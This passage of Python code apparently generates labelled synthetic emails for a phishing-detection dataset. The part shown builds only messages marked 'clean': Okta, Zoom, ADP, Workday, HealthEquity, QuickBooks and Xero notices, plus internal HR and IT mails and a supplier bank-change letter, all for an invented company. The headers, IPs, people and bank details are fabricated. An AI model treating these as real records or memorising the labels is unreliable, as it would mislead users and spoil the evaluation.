             "Genuine Okta 'new sign-on notification' from noreply@okta.com for the company's brackenridgefluid.okta.com "
             "org after the employee signed in on a new laptop; the only link reports suspicious activity inside the "
             "real Okta tenant.",
             "us", utc(2025, 4, 2, 13, 43, 10), rcpt)
    s = m.stem
    p = generic_block(m, ip=f"198.245.{num(s + 'ip', 196, 204)}.{num(s + 'ip2', 2, 250)}",
                      helo=f"mail{num(s + 'h', 1, 40)}.mta.okta.com", mailfrom="okta.com", dkim_d="okta.com",
                      selector="okta2048", return_path="<noreply@okta.com>",
                      hops=[fold(f"Received: from op{num(s + 'op', 1, 9)}-app{num(s + 'app', 10, 99)}.ok12.okta.com (unknown [10.{num(s + 'a', 1, 50)}.{num(s + 'b', 1, 250)}.{num(s + 'c', 1, 250)}]) "
                                 f"by mail{num(s + 'h', 1, 40)}.mta.okta.com (Postfix) with ESMTP id {HX(s + 'q', 10)} for <{rcpt}>; {fmt(m.sent(2))}")])
    report = f"https://brackenridgefluid.okta.com/user/notifications/report/suspicious-activity?t={alnum(s + 't', 40)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="margin:0;padding:0;background:#f7f7f7">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 8px">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border:1px solid #dddddd;font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#5e5e5e">
<tr><td style="padding:20px 30px;border-bottom:1px solid #dddddd"><img src="https://ok12static.oktacdn.com/bc/image/fileStoreRecord?id=fs0{alnum(s + 'logo', 16)}" alt="Brackenridge Fluid Systems" height="36"></td></tr>
<tr><td style="padding:26px 30px 6px 30px;font-size:18px;color:#1d1d21"><b>New sign-on notification</b></td></tr>
<tr><td style="padding:8px 30px;line-height:21px">Hello Nicole,<br><br>Your Brackenridge Fluid Systems account was just used to sign in from a new device or location.</td></tr>
<tr><td style="padding:8px 30px"><table cellpadding="4" cellspacing="0" style="font-size:13px;color:#5e5e5e">
<tr><td width="120"><b>Date</b></td><td>April 2, 2025 at 9:41 AM EDT</td></tr>
<tr><td><b>Browser</b></td><td>Chrome 134.0.0.0</td></tr><tr><td><b>OS</b></td><td>Windows 11</td></tr>
<tr><td><b>Location</b></td><td>Columbus, Ohio, United States</td></tr><tr><td><b>IP Address</b></td><td>216.68.{num(s + 'pip', 1, 250)}.{num(s + 'pip2', 1, 250)}</td></tr></table></td></tr>
<tr><td style="padding:14px 30px;line-height:21px">Don't recognize this activity? Your account might be compromised.<br><a href="{report}" style="color:#1662dd">Report suspicious activity</a> and your administrator will be notified.</td></tr>
<tr><td style="padding:20px 30px;font-size:12px;color:#999999;border-top:1px solid #dddddd">This is an automatically generated message from Okta. Replies are not monitored or answered.</td></tr>
</table></td></tr></table></body></html>"""
    plain = ("New sign-on notification\n\nHello Nicole,\n\nYour Brackenridge Fluid Systems account was just used to sign in "
             "from a new device or location.\n\nDate: April 2, 2025 at 9:41 AM EDT\nBrowser: Chrome 134.0.0.0\nOS: Windows 11\n"
             "Location: Columbus, Ohio, United States\n\nDon't recognize this activity? Your account might be compromised.\n"
             f"Report suspicious activity: {report}\n\nThis is an automatically generated message from Okta.\n")
    hdr = f"""Date: {fmt(p['sent'])}
From: Okta <noreply@okta.com>
To: {rcpt}
Message-ID: <{num(s + 'mid', 100000000, 999999999)}.{num(s + 'mid2', 10000, 99999)}.{ts(p['sent'])}{num(s + 'ms', 100, 999)}@ok12-app{num(s + 'app', 10, 99)}.ok12.internal>
Subject: New sign-on notification
MIME-Version: 1.0"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "java"))))


def l06_zoom_cloud_recording():
    rcpt = f"tyler.greaves@{US}"
    m = Mail("legit-zoom-cloud-recording-available", "clean",
             "Genuine Zoom 'cloud recording is now available' notice from no-reply@zoom.us for the customer-service "
             "team's weekly huddle, linking to the company's own brackenridgefluid.zoom.us recording page.",
             "us", utc(2025, 8, 21, 15, 58, 44), rcpt)
    s = m.stem
    p = sendgrid_block(m, "zoom.us", "em2")
    share = f"https://brackenridgefluid.zoom.us/rec/share/{alnum(s + 'rec', 60)}.{alnum(s + 'rec2', 16)}"
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="margin:0;background:#ffffff">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px 10px">
<table width="600" cellpadding="0" cellspacing="0" style="font-family:Lato,Helvetica,Arial,sans-serif;color:#232333">
<tr><td style="padding:16px 0 20px 0;border-bottom:1px solid #ededf4"><img src="https://st1.zoom.us/static/6.3.25787/image/new/ZoomLogo.png" height="24" alt="zoom"></td></tr>
<tr><td style="padding:24px 0 8px 0;font-size:16px;line-height:24px">Hi Tyler Greaves,<br><br>Your cloud recording is now available.</td></tr>
<tr><td style="padding:8px 0;font-size:14px;line-height:22px;color:#39394d"><b>Topic:</b> Customer Service Weekly Huddle<br><b>Date:</b> Aug 21, 2025 10:00 AM Eastern Time (US and Canada)</td></tr>
<tr><td style="padding:12px 0 4px 0;font-size:14px">Share recording with viewers:<br><a href="{share}" style="color:#0b5cff;word-break:break-all">{share}</a></td></tr>
<tr><td style="padding:20px 0"><a href="https://brackenridgefluid.zoom.us/recording/management" style="background:#0b5cff;color:#ffffff;font-size:14px;text-decoration:none;padding:10px 22px;border-radius:8px;display:inline-block">Manage recordings</a></td></tr>
<tr><td style="padding:18px 0;font-size:12px;color:#747487;border-top:1px solid #ededf4">Thank you for choosing Zoom.<br>-The Zoom Team<br><br>&copy;2025 Zoom Communications, Inc. All rights reserved.<br>55 Almaden Blvd, San Jose, CA 95113<br>+1.888.799.9666</td></tr>
</table></td></tr></table>
<img src="https://u{p['uid']}.ct.sendgrid.net/wf/open?upn=u001.{alnum(s + 'op', 110)}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important"></body></html>"""
    plain = ("Hi Tyler Greaves,\n\nYour cloud recording is now available.\n\nTopic: Customer Service Weekly Huddle\nDate: Aug 21, "
             f"2025 10:00 AM Eastern Time (US and Canada)\n\nShare recording with viewers:\n{share}\n\nManage recordings: "
             "https://brackenridgefluid.zoom.us/recording/management\n\nThank you for choosing Zoom.\n-The Zoom Team\n")
    hdr = f"""From: Zoom <no-reply@zoom.us>
Subject: Cloud Recording - Customer Service Weekly Huddle is now available
Date: {fmt(p['sent'])}
Message-ID: {p['msgid']}
To: {rcpt}"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "sg"))))


def l07_adp_pay_statement():
    rcpt = f"marcus.bell@{US}"
    m = Mail("legit-adp-pay-statement-ready", "clean",
             "Genuine ADP notice that a new pay statement is available, from adp.com's own mail servers, pointing to "
             "the real my.adp.com portal with no request for credentials in the mail.",
             "us", utc(2025, 7, 31, 9, 6, 20), rcpt)
    s = m.stem
    p = generic_block(m, ip=f"170.146.{num(s + 'ip', 220, 230)}.{num(s + 'ip2', 2, 250)}", helo=f"mailrelay{num(s + 'h', 1, 6)}.adp.com",
                      mailfrom="adp.com", dkim_d="adp.com", selector="adp2048", return_path="<SecurityServices_NoReply@adp.com>",
                      hops=[fold(f"Received: from ROLLAPMSG{num(s + 'x', 10, 40)}.esi.adp.com (10.{num(s + 'a', 1, 90)}.{num(s + 'b', 1, 250)}.{num(s + 'c', 1, 250)}) by "
                                 f"mailrelay{num(s + 'h', 1, 6)}.adp.com with ESMTP id {HX(s + 'q', 12)}; {fmt(m.sent(2), -4)}")])
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#f4f4f4">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 8px">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;color:#333333">
<tr><td style="padding:18px 28px;border-bottom:1px solid #e5e5e5"><img src="https://www.adp.com/-/media/adp/redesign2018/ui/logo-adp-fy19.svg" height="30" alt="ADP"></td></tr>
<tr><td style="padding:24px 28px 8px 28px;font-size:18px;font-weight:bold">Your pay statement is ready</td></tr>
<tr><td style="padding:8px 28px;font-size:14px;line-height:21px">Hi Marcus,<br><br>Your pay statement for the pay date of <b>07/31/2025</b> from Brackenridge Fluid Systems, Inc. is now available.<br><br>To view it, sign in to MyADP at <a href="https://my.adp.com/" style="color:#d0271d">my.adp.com</a> or open the ADP Mobile app.</td></tr>
<tr><td style="padding:16px 28px 24px 28px;font-size:11px;color:#777777;line-height:16px">This is an automated message. Please do not reply. ADP will never ask you to provide your password or banking information by email.<br><br>ADP, Inc. | One ADP Boulevard | Roseland, NJ 07068<br><a href="https://www.adp.com/privacy.aspx" style="color:#777777">Privacy</a> | <a href="https://www.adp.com/legal.aspx" style="color:#777777">Legal</a></td></tr>
</table></td></tr></table></body></html>"""
    plain = ("Your pay statement is ready\n\nHi Marcus,\n\nYour pay statement for the pay date of 07/31/2025 from Brackenridge "
             "Fluid Systems, Inc. is now available.\n\nTo view it, sign in to MyADP at https://my.adp.com/ or open the ADP "
             "Mobile app.\n\nThis is an automated message. Please do not reply. ADP will never ask you to provide your "
             "password or banking information by email.\n")
    hdr = f"""Date: {fmt(p['sent'], -4)}
From: ADP <SecurityServices_NoReply@adp.com>
To: {rcpt}
Message-ID: <{hx(s + 'adp', 24)}@adp.com>
Subject: Your pay statement is ready
MIME-Version: 1.0"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "java"))))


def workday_block(m: Mail) -> dict:
    s = m.stem
    return generic_block(m, ip=f"198.49.{num(s + 'ip', 130, 134)}.{num(s + 'ip2', 2, 250)}",
                         helo=f"mail-out{num(s + 'h', 1, 9)}.myworkday.com", mailfrom="myworkday.com", dkim_d="myworkday.com",
                         selector="wd2048", return_path="<brackenridgefluid@myworkday.com>",
                         hops=[fold(f"Received: from wd5-impl-svc{num(s + 'svc', 10, 99)}.wd5.myworkday.com (wd5-impl-svc{num(s + 'svc', 10, 99)}.wd5.myworkday.com "
                                    f"[10.{num(s + 'a', 1, 90)}.{num(s + 'b', 1, 250)}.{num(s + 'c', 1, 250)}]) by mail-out{num(s + 'h', 1, 9)}.myworkday.com "
                                    f"(Postfix) with ESMTP id {HX(s + 'q', 10)} for <{m.rcpt}>; {fmt(m.sent(2))}")])


def l08_workday_merit_statement():
    rcpt = f"dana.whitfield@{US}"
    m = Mail("legit-workday-merit-statement", "clean",
             "Genuine Workday notification from the company's tenant address brackenridgefluid@myworkday.com that the "
             "2026 merit statement is available, linking to wd5.myworkday.com/brackenridgefluid.",
             "us", utc(2026, 2, 17, 16, 0, 14), rcpt)
    s = m.stem
    p = workday_block(m)
    link = f"https://wd5.myworkday.com/brackenridgefluid/d/inst/15${num(s + 'i', 100000, 999999)}/rel-task/2997$9.htmld"
    html = workday_html("Your 2026 Merit Statement is available",
                        ["Dana Whitfield,", "Your 2026 merit and bonus statement has been published. You can view it from "
                         "your Workday inbox or from Pay &gt; Compensation.", "If you have questions about your statement, "
                         "please speak with your manager or contact HR at hr@brackenridgefluid.com."],
                        link, "View Statement", "Brackenridge Fluid Systems")
    plain = ("Your 2026 Merit Statement is available\n\nDana Whitfield,\n\nYour 2026 merit and bonus statement has been "
             "published. You can view it from your Workday inbox or from Pay > Compensation.\n\nIf you have questions about "
             f"your statement, please speak with your manager or contact HR at hr@brackenridgefluid.com.\n\nView Statement: {link}\n")
    hdr = f"""Date: {fmt(p['sent'], -8)}
From: Brackenridge Fluid Systems <brackenridgefluid@myworkday.com>
To: {rcpt}
Message-ID: <{num(s + 'mid', 1000000, 9999999)}.{num(s + 'mid2', 100000, 999999)}.{ts(p['sent'])}{num(s + 'ms', 100, 999)}@wd5-impl-svc{num(s + 'svc', 10, 99)}.wd5.myworkday.com>
Subject: Your 2026 Merit Statement is available
MIME-Version: 1.0"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "java"))))


def l09_healthequity_statement():
    rcpt = f"angela.reyes@{US}"
    m = Mail("legit-healthequity-hsa-statement", "clean",
             "Genuine HealthEquity notice (benefits provider, sent through its Salesforce Marketing Cloud subdomain) "
             "that the quarterly HSA statement is ready, with tracked links to healthequity.com and no credential request.",
             "us", utc(2025, 10, 7, 14, 31, 5), rcpt)
    s = m.stem
    ip = f"13.111.{num(s + 'ip', 40, 70)}.{num(s + 'ip2', 2, 250)}"
    p = generic_block(m, ip=ip, helo=f"mta{num(s + 'h', 1, 40)}.e.healthequity.com", mailfrom="bounce.e.healthequity.com",
                      dkim_d="e.healthequity.com", selector="200608", return_path=f"<bounce-{num(s + 'b', 100, 999)}_HTML-{num(s + 'b2', 100000000, 999999999)}-{num(s + 'b3', 100000, 999999)}-{num(s + 'b4', 1000000, 9999999)}-{num(s + 'b5', 100, 999)}@bounce.e.healthequity.com>",
                      post=f"x-job: {num(s + 'job', 1000000, 9999999)}_{num(s + 'job2', 100000, 999999)}\n"
                           f"X-SFMC-Stack: {num(s + 'stk', 1, 12)}\nFeedback-ID: {num(s + 'fb', 1000000, 9999999)}:{num(s + 'fb2', 100000, 999999)}:{ip}:sfmktgcld")
    p["dmarc"] = "pass"
    p["hfrom"] = "e.healthequity.com"
    trk = lambda n: f"https://click.e.healthequity.com/?qs={hx(s + 'qs' + str(n), 160)}"
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;padding:0;background:#f2f4f5">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center" style="padding:20px 8px">
<table width="600" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;color:#333f48">
<tr><td style="padding:20px 30px"><a href="{trk(1)}"><img src="https://image.e.healthequity.com/lib/fe8f13727067007f75/m/1/he-logo.png" width="160" alt="HealthEquity" border="0"></a></td></tr>
<tr><td style="padding:10px 30px;font-size:22px;color:#00558c;font-weight:bold">Your HSA statement is ready</td></tr>
<tr><td style="padding:10px 30px;font-size:15px;line-height:23px">Hi Angela,<br><br>Your quarterly statement for your Health Savings Account (July 1 &ndash; September 30, 2025) is now available in your member portal. Statements show your contributions, distributions, investment activity and interest for the period.</td></tr>
<tr><td style="padding:16px 30px"><a href="{trk(2)}" style="background:#00558c;color:#ffffff;font-size:15px;text-decoration:none;padding:11px 24px;border-radius:4px;display:inline-block">View statement</a></td></tr>
<tr><td style="padding:16px 30px;font-size:12px;color:#6b7780;line-height:18px">You are receiving this service message because you have an HSA through Brackenridge Fluid Systems, Inc. HealthEquity will never ask for your password by email.<br><br>HealthEquity, Inc. | 15 W Scenic Pointe Dr., Ste 100 | Draper, UT 84020<br><a href="{trk(3)}" style="color:#6b7780">Privacy policy</a> | <a href="{trk(4)}" style="color:#6b7780">Email preferences</a></td></tr>
</table></td></tr></table>
<img src="https://click.e.healthequity.com/open.aspx?ffcb10-{hx(s + 'o1', 16)}-{hx(s + 'o2', 24)}" width="1" height="1" alt=""></body></html>"""
    plain = ("Your HSA statement is ready\n\nHi Angela,\n\nYour quarterly statement for your Health Savings Account (July 1 - "
             "September 30, 2025) is now available in your member portal.\n\nView statement: " + trk(2) + "\n\nHealthEquity will "
             "never ask for your password by email.\nHealthEquity, Inc. | 15 W Scenic Pointe Dr., Ste 100 | Draper, UT 84020\n")
    hdr = f"""From: "HealthEquity" <no-reply@e.healthequity.com>
To: <{rcpt}>
Subject: Your HSA statement is ready
Date: {fmt(p['sent'], -6)}
List-Unsubscribe: <https://click.e.healthequity.com/unsub_center.aspx?qs={hx(s + 'un', 120)}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
MIME-Version: 1.0
Reply-To: "HealthEquity" <reply-{hx(s + 'rt', 20)}@e.healthequity.com>
Message-ID: <{guid(s + 'sfmc')}@atl1s07mta{num(s + 'mta', 1000, 9999)}.xt.local>"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "java"))))


def l10_uk_p60_internal():
    rcpt = f"rebecca.hollins@{UK}"
    sender = f"chloe.marsh@{UK}"
    m = Mail("legit-uk-hr-p60-available-internal", "clean",
             "Internal mail from the UK HR manager to all UK staff (sent inside the tenant, authenticated as Internal) "
             "saying 2024/25 P60s are in the usual payroll portal reached from the HR intranet page; it warns that HR "
             "will never send a QR code or ask for passwords.",
             "uk", utc(2025, 5, 30, 10, 15, 2), rcpt)
    s = m.stem
    _, _, smbx_f = internal(m, sender)
    link = "https://brackenridgefluiduk.sharepoint.com/sites/HR/SitePages/Payslips-and-P60s.aspx"
    inner = ms_paras(f"""Hi all,
 
Your P60 for the 2024/25 tax year is now available in the payroll portal, alongside your May payslip. You can reach the portal in the usual way from the HR intranet page: <a href="{link}">HR &gt; Payslips and P60s</a>.
 
Please keep a copy for your records; you may need it for mortgage applications or to claim back overpaid tax.
 
A reminder that HR and Payroll will never email you a QR code, a link to "re-register" for payslips, or ask for your password. If you receive anything like that, use the Report button in Outlook.
 
Any questions, give me a shout.
 
Kind regards,
Chloe
 
Chloe Marsh
HR Manager, UK | Brackenridge Fluid Systems UK Ltd
Thorpe Park, Leeds LS15 8ZB | 0113 496 0600""")
    html = outlook_desktop_html(inner).replace('lang="EN-US"', 'lang="EN-GB"')
    plain = ("Hi all,\n\nYour P60 for the 2024/25 tax year is now available in the payroll portal, alongside your May payslip. "
             f"You can reach the portal in the usual way from the HR intranet page: HR > Payslips and P60s<{link}>.\n\n"
             "Please keep a copy for your records; you may need it for mortgage applications or to claim back overpaid tax.\n\n"
             "A reminder that HR and Payroll will never email you a QR code, a link to \"re-register\" for payslips, or ask "
             "for your password. If you receive anything like that, use the Report button in Outlook.\n\nAny questions, give "
             "me a shout.\n\nKind regards,\nChloe\n\nChloe Marsh\nHR Manager, UK | Brackenridge Fluid Systems UK Ltd\nThorpe "
             "Park, Leeds LS15 8ZB | 0113 496 0600\n")
    subj = "Your 2024/25 P60 is now available"
    hdr = f"""From: Chloe Marsh <{sender}>
To: All Staff UK <AllStaffUK@{UK}>
Subject: {subj}
Thread-Topic: {subj}
Thread-Index: {thread_index(s)}
Date: {fmt(m.when)}
Message-ID: {ms_msgid(smbx_f, s + 'mid')}
Accept-Language: en-GB, en-US
Content-Language: en-GB
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
msip_labels: MSIP_Label_{guid('label-general-uk')}_Enabled=True"""
    add(m, emit_internal(m, sender, hdr, alt(plain, html, bnd(s))))


def l11_quickbooks_invoice():
    rcpt = f"teresa.gullickson@{US}"
    m = Mail("legit-quickbooks-invoice-known-supplier", "clean",
             "Genuine QuickBooks Online invoice from the real packaging supplier (quickbooks@notification.intuit.com, "
             "reply-to ar@ardentpkg.com) with the invoice PDF attached and a 'Review and pay' link to Intuit's portal; "
             "same remittance details as always.",
             "us", utc(2025, 8, 20, 18, 44, 9), rcpt)
    s = m.stem
    p = generic_block(m, ip=f"206.108.40.{num(s + 'ip', 2, 60)}", helo=f"mail{num(s + 'h', 1, 20)}.notification.intuit.com",
                      mailfrom="notification.intuit.com", dkim_d="notification.intuit.com", selector="intuit2024",
                      return_path=f"<bounce-{hx(s + 'rp', 16)}@notification.intuit.com>")
    pdf = files.pdf(["ARDENT PACKAGING SUPPLY, INC.", "2290 Valley Pike, Dayton, OH 45404", "(937) 555-0110  ar@ardentpkg.com", "",
                     "INVOICE 10482", "Date: 08/20/2025      Terms: Net 30      Due: 09/19/2025", "",
                     "Bill to: Brackenridge Fluid Systems, Inc., Accounts Payable", "1850 Arlingate Lane, Columbus, OH 43228", "",
                     "PO 44871", "Corrugated shipper 24x18x12, 200# test     2,400 ea   $1.38    $3,312.00",
                     "Foam end caps, 4in valve body                 1,200 ea   $0.92    $1,104.00",
                     "Freight                                                          $285.00", "",
                     "TOTAL DUE                                                        $4,701.00", "",
                     "Remit: ACH to the account on file, or pay online via the QuickBooks link.",
                     "Thank you for your business."], title="Invoice 10482")
    link = f"https://connect.intuit.com/portal/app/CommerceNetwork/view/scs-v1-{hx(s + 'scs', 60)}?locale=en_US&cta=viewinvoicenow"
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="margin:0;background:#f4f5f8">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 8px">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Avenir,Helvetica,Arial,sans-serif;color:#393a3d">
<tr><td align="center" style="padding:26px 30px 6px 30px;font-size:20px;font-weight:bold">Ardent Packaging Supply, Inc.</td></tr>
<tr><td align="center" style="padding:6px 30px;font-size:13px;color:#6b6c72">INVOICE 10482 DETAILS</td></tr>
<tr><td align="center" style="padding:10px 30px;font-size:34px;font-weight:bold">$4,701.00</td></tr>
<tr><td align="center" style="padding:0 30px 14px 30px;font-size:13px;color:#6b6c72">Due 09/19/2025</td></tr>
<tr><td align="center" style="padding:10px 30px 22px 30px"><a href="{link}" style="background:#2ca01c;color:#ffffff;font-size:15px;font-weight:bold;text-decoration:none;padding:12px 40px;border-radius:4px;display:inline-block">Review and pay</a></td></tr>
<tr><td style="padding:14px 30px;font-size:14px;line-height:21px;border-top:1px solid #e3e5e8">Dear Brackenridge Fluid Systems, Inc.,<br><br>Here's your invoice for PO 44871. We appreciate your prompt payment.<br><br>Thanks for your business!<br>Ardent Packaging Supply, Inc.</td></tr>
<tr><td style="padding:18px 30px;font-size:11px;color:#8d9096;border-top:1px solid #e3e5e8">Ardent Packaging Supply, Inc. &middot; 2290 Valley Pike &middot; Dayton, OH 45404 &middot; ar@ardentpkg.com<br><br>If you receive an email that seems fraudulent, please check with the business owner before paying.<br>&copy; Intuit, Inc. All rights reserved. <a href="https://www.intuit.com/privacy/" style="color:#8d9096">Privacy</a> | <a href="https://security.intuit.com/" style="color:#8d9096">Security</a> | <a href="https://quickbooks.intuit.com/payments/legal/" style="color:#8d9096">Terms of Service</a></td></tr>
</table></td></tr></table></body></html>"""
    plain = ("Ardent Packaging Supply, Inc.\n\nINVOICE 10482 DETAILS\n$4,701.00\nDue 09/19/2025\n\nReview and pay: "
             f"{link}\n\nDear Brackenridge Fluid Systems, Inc.,\n\nHere's your invoice for PO 44871. We appreciate your prompt "
             "payment.\n\nThanks for your business!\nArdent Packaging Supply, Inc.\n\nIf you receive an email that seems "
             "fraudulent, please check with the business owner before paying.\n")
    body = Multi("mixed", bnd(s, "java"), [alt(plain, html, bnd(s + "a", "java")),
                                           attachment("application/pdf", "Invoice_10482_from_Ardent_Packaging_Supply_Inc.pdf", pdf)])
    hdr = f"""Date: {fmt(p['sent'], -7)}
From: "Ardent Packaging Supply, Inc." <quickbooks@notification.intuit.com>
Reply-To: ar@ardentpkg.com
To: teresa.gullickson@{US}
Message-ID: <{num(s + 'mid', 1000000, 9999999)}.{num(s + 'mid2', 1000000, 9999999)}.{ts(p['sent'])}{num(s + 'ms', 100, 999)}@ip-10-{num(s + 'a', 1, 99)}-{num(s + 'b', 1, 250)}-{num(s + 'c', 1, 250)}.us-west-2.compute.internal>
Subject: Invoice 10482 from Ardent Packaging Supply, Inc.
MIME-Version: 1.0"""
    add(m, emit_parts(m, p, hdr, body))


def l12_xero_statement():
    rcpt = f"hannah.pickering@{UK}"
    m = Mail("legit-xero-statement-known-haulier", "clean",
             "Genuine Xero statement from the UK haulier's real accounts team (messaging-service@post.xero.com via "
             "Amazon SES, reply-to hollisfreight.co.uk) with the PDF statement attached; bank details unchanged.",
             "uk", utc(2025, 10, 3, 8, 12, 55), rcpt)
    s = m.stem
    p = ses_block(m, "post.xero.com", region="eu-west-1", bounce_sub="bounce")
    p["mailfrom"] = "bounce.post.xero.com"
    p["ctry"] = "IE"
    pdf = files.pdf(["HOLLIS FREIGHT LTD", "Unit 9, Stourton Link, Leeds LS10 1SJ   VAT GB 284 5519 07", "",
                     "STATEMENT", "Brackenridge Fluid Systems UK Ltd", "Thorpe Park, Leeds LS15 8ZB", "",
                     "Date: 30 September 2025", "", "Date        Ref       Description                     Amount",
                     "02/09/2025  INV-55102 Trunking Leeds-Felixstowe x6      £6,180.00",
                     "12/09/2025  INV-55131 Pallet network Sept wk 1-2        £5,966.40",
                     "26/09/2025  INV-55187 Pallet network Sept wk 3-4        £6,296.20", "",
                     "Balance due                                           £18,442.60", "",
                     "Payment: Lloyds Bank  Sort code 30-94-57  Account 01883472 (unchanged)",
                     "Please contact accounts@hollisfreight.co.uk or 0113 496 0522 with any queries."], title="Statement")
    link = f"https://in.xero.com/Statements/{alnum(s + 'x', 40)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#333">
<p>Dear Hannah,</p><p>Please find attached your statement as at 30 September 2025. The balance outstanding is <b>&pound;18,442.60</b>.</p>
<p>You can also <a href="{link}">view your statement online</a>.</p>
<p>If you have any questions, please let us know.</p><p>Kind regards,<br>Paul Brierley<br>Hollis Freight Ltd</p>
<p style="font-size:11px;color:#888">Sent using <a href="https://www.xero.com/" style="color:#888">Xero</a></p></body></html>"""
    plain = ("Dear Hannah,\n\nPlease find attached your statement as at 30 September 2025. The balance outstanding is "
             f"£18,442.60.\n\nYou can also view your statement online: {link}\n\nIf you have any questions, please let us "
             "know.\n\nKind regards,\nPaul Brierley\nHollis Freight Ltd\n\nSent using Xero\n")
    body = Multi("mixed", bnd(s, "java"), [alt(plain, html, bnd(s + "a", "java")),
                                           attachment("application/pdf", "Statement Brackenridge Fluid Systems UK Ltd.pdf", pdf)])
    hdr = f"""From: Hollis Freight Ltd <messaging-service@post.xero.com>
Reply-To: accounts@hollisfreight.co.uk
To: Hannah Pickering <{rcpt}>
Subject: Statement from Hollis Freight Ltd
MIME-Version: 1.0
Message-ID: {p['msgid'].replace('email.amazonses.com', 'eu-west-1.amazonses.com')}
Date: {fmt(p['sent'])}"""
    add(m, emit_parts(m, p, hdr, body))


def l13_supplier_bank_change_callback():
    rcpt = f"teresa.gullickson@{US}"
    m = Mail("legit-supplier-bank-change-with-callback", "clean",
             "Genuine notice from a known valve supplier's credit manager, sent from the supplier's own Microsoft 365 "
             "tenant (passes DMARC), announcing a bank move effective January 2026 and telling AP not to act on the "
             "email alone but to call back on the number already on file; signed letter attached.",
             "us", utc(2025, 11, 12, 15, 48, 31), rcpt)
    s = m.stem
    p = exo_sender_block(m, domain="summitvalvefit.com", sender="lbaptiste@summitvalvefit.com", has_attach=True)
    pdf = files.pdf(["SUMMIT VALVE & FITTING CO.", "4100 Creek Road, Blue Ash, OH 45242", "", "November 12, 2025", "",
                     "To: Accounts Payable, Brackenridge Fluid Systems, Inc.", "", "Re: Change of remittance bank effective January 1, 2026",
                     "", "Summit Valve & Fitting Co. will move its operating accounts from Fifth Third Bank to PNC Bank",
                     "effective January 1, 2026. Payments dated before that day should continue to go to the",
                     "existing account. New remittance details will be confirmed to you by telephone.", "",
                     "To protect both our companies, please verify this change by calling Summit Accounts",
                     "Receivable on the phone number in your vendor master file (not a number from an email).",
                     "We will never ask you to change bank details by email alone.", "",
                     "Sincerely,", "Gregory Tanaka, Chief Financial Officer", "Lorraine Baptiste, Credit Manager"],
                    title="Summit Valve - bank change notice")
    inner = outlook_desktop_html(ms_paras("""Hi Teresa,
 
As mentioned on our call last month, Summit Valve &amp; Fitting is moving its banking from Fifth Third to PNC with effect from January 1, 2026. Our signed letter is attached for your vendor file.
 
Please do <b>not</b> update anything on the basis of this email alone. Call our AR line on the number you already have in your vendor master (or me directly on the number on file) and we will confirm the new account details verbally, with our CFO on the call if your policy requires it. Payments dated before January 1 should continue to go to the existing Fifth Third account.
 
We are sending the same notice to all customers, and you will also receive a paper copy by post.
 
Thank you,
Lorraine Baptiste
Credit Manager | Summit Valve &amp; Fitting Co.
4100 Creek Road, Blue Ash, OH 45242"""))
    plain = ("Hi Teresa,\n\nAs mentioned on our call last month, Summit Valve & Fitting is moving its banking from Fifth Third "
             "to PNC with effect from January 1, 2026. Our signed letter is attached for your vendor file.\n\nPlease do not "
             "update anything on the basis of this email alone. Call our AR line on the number you already have in your "
             "vendor master (or me directly on the number on file) and we will confirm the new account details verbally, "
             "with our CFO on the call if your policy requires it. Payments dated before January 1 should continue to go to "
             "the existing Fifth Third account.\n\nWe are sending the same notice to all customers, and you will also receive "
             "a paper copy by post.\n\nThank you,\nLorraine Baptiste\nCredit Manager | Summit Valve & Fitting Co.\n4100 Creek "
             "Road, Blue Ash, OH 45242\n")
    body = Multi("mixed", bnd(s + "m"), [alt(plain, inner, bnd(s)),
                                         attachment("application/pdf", "Summit Valve - Change of Bank Notice 2026.pdf", pdf)])
    subj = "Summit Valve & Fitting - change of remittance bank effective January 1, 2026"
    hdr = f"""From: Lorraine Baptiste <lbaptiste@summitvalvefit.com>
To: Teresa Gullickson <{rcpt}>
CC: Craig Helmsley <chelmsley@summitvalvefit.com>
Subject: {subj}
Thread-Topic: {subj}
Thread-Index: {thread_index(s)}
Date: {fmt(p['sent'])}
Message-ID: {p['msgid']}"""
    add(m, emit_parts(m, p, hdr, body))


def l14_it_mfa_number_matching():
    rcpt = f"steve.kowalczyk@{US}"
    sender = f"brian.lutz@{US}"
    m = Mail("legit-it-mfa-change-announcement-internal", "clean",
             "Internal IT announcement (sent inside the tenant by the IT systems administrator to all US staff) about "
             "Okta Verify number challenge and Authenticator changes, linking only to the company's own SharePoint FAQ "
             "and telling staff IT will never email a QR code or ask for a code.",
             "us", utc(2025, 2, 20, 19, 3, 26), rcpt)
    s = m.stem
    _, _, smbx_f = internal(m, sender)
    faq = "https://brackenridgefluid.sharepoint.com/sites/IT/SitePages/MFA-FAQ.aspx"
    inner = ms_paras(f"""Hi everyone,
 
